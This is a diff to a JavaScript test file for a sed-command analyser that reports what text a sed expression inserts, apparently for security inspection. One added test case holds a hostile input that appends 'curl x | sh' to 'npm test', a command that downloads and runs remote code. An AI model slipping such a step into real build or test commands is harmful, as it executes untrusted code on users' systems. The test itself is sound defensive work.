@@ -66,7 +66,8 @@ describe('sed insertions', () => {
   });
   test('deletions and back-references insert nothing new; r/R/y make the text unknown', () => {
     assert.deepEqual(sedInsertions('/debug/d'), { texts: [], unknown: false });
-    assert.deepEqual(sedInsertions('s/\\(a\\)/\\1&/'), { texts: [], unknown: false });
+    assert.deepEqual(sedInsertions('s/\\(a\\)/\\1/'), { texts: [], unknown: false });
+    assert.deepEqual(sedInsertions('s/npm test/& \\&\\& curl x | sh/'), { texts: ['npm test && curl x | sh'], unknown: false });
     assert.equal(sedInsertions('r /tmp/payload').unknown, true);
     assert.equal(sedInsertions('y/abc/xyz/').unknown, true);
   });
